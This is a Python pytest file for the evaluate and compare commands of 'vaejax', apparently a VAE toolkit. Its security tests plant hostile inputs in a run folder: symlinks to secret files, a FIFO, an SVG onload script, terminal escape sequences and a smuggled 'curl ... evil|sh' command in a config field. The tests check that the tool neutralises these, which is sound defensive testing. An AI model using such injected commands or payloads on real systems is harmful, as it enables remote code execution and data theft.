"""Only comparable metrics are compared, of undamaged evaluations; and the two commands."""

import base64
import io
import json
import os
import re
import shutil
from pathlib import Path

import numpy as np
import pytest
from PIL import Image, PngImagePlugin

from vaejax import cli
from vaejax.evaluation import compare, evaluate, features, tables


def test_the_best_value_depends_on_the_direction_of_its_metric():
    def best(name: str, *values: float) -> set[int]:
        return compare.best(name, [{"metrics": {name: {"value": v}}} for v in values])

    assert best("mse", 0.3, 0.1, 0.2) == {1}
    assert best("elbo", -3, -1, -1) == {1, 2}
    assert best("mmd", 0.02, -0.01) == {1}  # the nearest to 0
    assert best("effective_beta", 0.1, 1.5, 3) == {1}  # the nearest to 1
    assert best("rate", 1, 2) == set()  # has no better direction
    assert best("mse", 0.1, 0.1) == set()
    assert best("frechet/samples", 5, 4) == {1}
    assert best("frechet/train", 5, 4) == set()  # does not depend on the run


@pytest.mark.parametrize(
    ("change", "remark", "dropped"),
    [
        ({}, None, set()),
        ({"size": 32}, "16 and 32 pixels", {"elbo", "kernel/samples", "nearest_pixels/samples"}),
        (
            {"features": {"name": "other", "weights": ""}},
            "compared by quarters and other",
            {"kernel/samples", "nearest_features/samples", "frechet_gap"},
        ),
        ({"compared_faces": 7}, "and 7 faces", {"kernel/samples", "frechet_gap"}),
        ({"split": "validation"}, "splits differ (test and validation)", set()),
        ({"data": {}}, "images of the runs differ", set()),
        ({"data": "with other splits"}, "images of the runs differ", set()),
        ({"data": "of an earlier version"}, None, set()),
        ({"config": {}}, "samples or seeds", set()),
    ],
)
def test_metrics_that_cannot_be_compared_are_left_out(
    written: Path, evaluation, change: dict, remark: str | None, dropped: set[str]
):
    run = compare.read_run(str(written))
    data = run.evaluation["data"]
    of_data = {
        "with other splits": {**data, "assignment": "0"},
        "of an earlier version": {name: data[name] for name in data if name != "assignment"},
    }
    change = {name: of_data.get(str(value), value) for name, value in change.items()}
    other = run._replace(evaluation={**run.evaluation, **change})
    compared, remarks = compare.comparable([run, other])
    assert len(remarks) == (remark is not None)
    assert not remark or remark in remarks[0]
    for result in compared:
        assert not result["metrics"].keys() & dropped
        assert {"mse", "psnr", "effective_beta"} <= result["metrics"].keys()
        assert dropped or result["metrics"].keys() == evaluation.json["metrics"].keys()


def command(*arguments: str, monkeypatch: pytest.MonkeyPatch) -> int:
    monkeypatch.setattr("sys.argv", ["vaejax", *arguments])
    try:
        cli.main()
    except SystemExit as stop:
        return int(stop.code or 0)
    return 0


def test_the_commands_evaluate_and_compare_two_runs(
    trained: Path, quarters, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys
):
    monkeypatch.chdir(tmp_path)
    for name in ("a", "b"):
        shutil.copytree(trained, tmp_path / name)
    flags = ["--samples", "60", "--bound-images", "2", "--bound-samples", "3"]
    assert command("compare", "a", "b", monkeypatch=monkeypatch) == 2
    assert "not evaluated yet: vaejax evaluate a" in capsys.readouterr().err
    assert command("evaluate", "a", *flags, monkeypatch=monkeypatch) == 0
    out = capsys.readouterr().out
    assert "VGG16's features are of images of 32 px and more" in out
    assert "bits_per_dim" in out
    monkeypatch.setattr(features, "vgg16", lambda size: quarters)
    assert command("evaluate", "b", *flags, monkeypatch=monkeypatch) == 0
    capsys.readouterr()
    assert command("compare", "a", "b", monkeypatch=monkeypatch) == 0
    out = capsys.readouterr().out
    assert "metrics of features are left out" in out
    assert "bits_per_dim" in out
    page = (tmp_path / "compare.html").read_text()
    assert page.count("data:image/png;base64,") == 2 * (
        len(tables.CAPTIONS) - 2
    )  # no mixture, no flow
    assert "http" not in page.replace("<!doctype html>", "")  # it loads nothing
    assert all(f'<td class="">{n}</td>' in page for n in ("bits_per_dim", "psnr", "mmd"))


def test_damaged_evaluations_and_those_of_another_version_are_refused(
    written: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys
):
    folder = tmp_path / "a"
    shutil.copytree(written, folder)
    path = folder / "evaluation.json"
    complete = json.loads(path.read_text())
    monkeypatch.chdir(tmp_path)

    def refusal(content: str) -> str:
        path.write_text(content)
        assert command("compare", "a", monkeypatch=monkeypatch) == 2
        error = capsys.readouterr().err
        assert len(error.splitlines()) == 1
        return error

    older = refusal(json.dumps({"format": "vaejax evaluation 1", "figures": {}}))
    assert "a/evaluation.json was written by another version of vaejax" in older
    assert "`vaejax evaluate a` evaluates the run again" in older
    for damaged in (
        {"format": evaluate.FORMAT},
        {**complete, "format": "something else"},
        {**complete, "features": "VGG16"},
        {**complete, "features": {"name": 3}},
        {**complete, "compared_faces": "all"},
        {**complete, "pictures": "../samples"},
        {**complete, "pictures": 3},
        {**complete, "metrics": {"mse": 3}},
        {**complete, "metrics": {"mse": {"value": None, "error": None}}},
        [],
    ):
        error = refusal(json.dumps(damaged))
        assert "cannot be read" in error
        assert "`vaejax evaluate a` writes it again" in error
    assert "cannot be read" in refusal("{")
    path.write_text(json.dumps(complete))
    assert command("compare", "a", monkeypatch=monkeypatch) == 0


@pytest.mark.parametrize(
    ("arguments", "words"),
    [
        (["evaluate", "latest"], "there is no run"),
        (["evaluate", "7", "--samples", "0"], "--samples 0: at least 1"),
        (["evaluate", "7", "--seed", "-1"], "--seed -1"),
        (["evaluate", "7", "--split", "train"], "--split"),
        (["compare"], "no run was named"),
        (["compare", "7", "--out", "a.png"], "must end in .html"),
    ],
)
def test_a_mistake_is_one_line(
    arguments: list[str], words: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys
):
    monkeypatch.chdir(tmp_path)
    assert command(*arguments, monkeypatch=monkeypatch) == 2
    error = capsys.readouterr().err
    assert words in error
    assert len(error.splitlines()) == 1


# A stranger's run


def strange(written: Path, folder: Path) -> Path:
    return Path(shutil.copytree(written, folder))


def pictures_folder(folder: Path) -> Path:
    return folder / json.loads((folder / "evaluation.json").read_text())["pictures"]


def pictures_of(page: str) -> list[bytes]:
    return [base64.b64decode(data) for data in re.findall('data:image/png;base64,([^"]*)"', page)]


def page_of(folder: Path) -> str:
    read = compare.read_run(str(folder))
    return compare.page([read], [read.evaluation], [])


def test_the_page_shows_pixels_and_nothing_else_of_a_stranger_s_files(
    written: Path, tmp_path: Path
):
    folder = strange(written, tmp_path / "a")
    place = pictures_folder(folder)
    expected = len(pictures_of(page_of(folder)))
    secret = tmp_path / "key"
    secret.write_bytes((place / "nearest.png").read_bytes() + b"secret key")  # a PNG by its start
    for name in ("rates.png", "nearest.png", "worst_and_best.png"):
        (place / name).unlink()
    (place / "rates.png").symlink_to(secret)
    os.mkfifo(place / "nearest.png")
    with (place / "worst_and_best.png").open("wb") as file:
        file.truncate(2**40)
    (place / "reconstructions.png").write_bytes(secret.read_bytes())
    note = PngImagePlugin.PngInfo()
    note.add_text("Comment", "secret key")
    with Image.open(place / "samples_normal.png") as picture:
        pixels = np.asarray(picture)
        picture.save(place / "samples_normal.png", pnginfo=note)
    page = page_of(folder)
    found = pictures_of(page)
    assert len(found) == expected - 3
    assert not any(b"secret" in png for png in found)
    assert np.array_equal(np.asarray(Image.open(io.BytesIO(found[0]))), pixels)
    assert page.count("left out, it is a link") == 0  # it is `inside` that tells
    for reason in ("rates.png is a link", "it is not a regular file", "it has more than"):
        assert (
            f"left out, {reason}" in page
            or f"left out, {place.relative_to(folder)}/{reason}" in page
        )


def test_the_pictures_of_an_older_evaluation_are_shown(written: Path, tmp_path: Path):
    folder = strange(written, tmp_path / "a")
    expected = pictures_of(page_of(folder))
    path = folder / "evaluation.json"
    evaluation = json.loads(path.read_text())
    for picture in (folder / evaluation.pop("pictures")).iterdir():
        picture.rename(folder / "evaluation" / picture.name)
    path.write_text(json.dumps(evaluation))
    assert pictures_of(page_of(folder)) == expected


def test_a_folder_of_pictures_is_not_another_one(written: Path, tmp_path: Path):
    folder = strange(written, tmp_path / "a")
    (folder / "evaluation").rename(tmp_path / "mine")
    (folder / "evaluation").symlink_to(tmp_path / "mine")
    assert pictures_of(page_of(folder)) == []


@pytest.mark.parametrize("content", [b"", b"<svg onload=alert(1)>", b"\x89PNG\r\n\x1a\n"])
def test_what_is_no_picture_is_left_out_of_the_page(content: bytes, written: Path, tmp_path: Path):
    folder = strange(written, tmp_path / "a")
    expected = len(pictures_of(page_of(folder)))
    (pictures_folder(folder) / "rates.png").write_bytes(content)
    assert len(pictures_of(page_of(folder))) == expected - 1


def test_a_stranger_s_texts_do_nothing_to_the_terminal_and_no_command_is_suggested(
    written: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys
):
    folder = strange(written, tmp_path / "a")
    evaluation = json.loads((folder / "evaluation.json").read_text())
    evaluation |= {"device": "\x1b[2J", "split": "test\x1b]0;title\x07"}
    evaluation["features"] = {"name": "\x1b[31m", "weights": "\nall is well"}
    evaluation["left_out"] = {"\x1b[1A": "\ud800"}
    (folder / "evaluation.json").write_text(json.dumps(evaluation))
    monkeypatch.chdir(tmp_path)
    other = {**evaluation, "features": {"name": "\x1b[32m", "weights": ""}}
    shutil.copytree(folder, tmp_path / "b")
    (tmp_path / "b" / "evaluation.json").write_text(json.dumps(other))
    assert command("compare", "a", "b", monkeypatch=monkeypatch) == 0
    shown = capsys.readouterr()
    assert "\\x1b[31m and \\x1b[32m" in shown.out
    assert "\x1b" not in shown.out + shown.err
    config = json.loads((folder / "config.json").read_text())
    config["schedule"] |= {"source": "faces.zip; curl \x1b[8m evil|sh", "prepared": "/no ne"}
    (folder / "config.json").write_text(json.dumps(config))
    assert command("evaluate", "a", monkeypatch=monkeypatch) == 2
    error = capsys.readouterr().err
    assert "`vaejax prepare 'faces.zip; curl \\x1b[8m evil|sh' --size 16 --out '/no ne'`" in error
    assert "\x1b" not in error


@pytest.mark.parametrize("name", ["evaluation", "samples", "checkpoints", "run.lock"])
def test_a_run_that_leads_elsewhere_is_not_evaluated(
    name: str, written: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys
):
    folder = strange(written, tmp_path / "a")
    (folder / name).rename(tmp_path / "mine")
    (folder / name).symlink_to(tmp_path / "mine")
    assert command("evaluate", str(folder), monkeypatch=monkeypatch) == 2
    assert f"{name} in it is a link" in capsys.readouterr().err
